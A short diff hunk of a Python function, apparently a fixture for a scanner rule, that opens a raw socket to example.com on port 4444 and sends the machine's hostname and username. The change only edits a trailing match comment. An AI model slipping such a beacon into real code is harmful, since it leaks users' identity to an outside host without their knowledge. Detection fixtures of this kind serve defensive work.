@@ -5,4 +5,4 @@ import socket
 def tell():
     line = socket.socket()
     line.connect(("example.com", 4444))
-    line.sendall((socket.gethostname() + getpass.getuser()).encode())  # match: raw-socket-carries-data # note: identity-sent
+    line.sendall((socket.gethostname() + getpass.getuser()).encode())  # match: raw-socket-carries-data
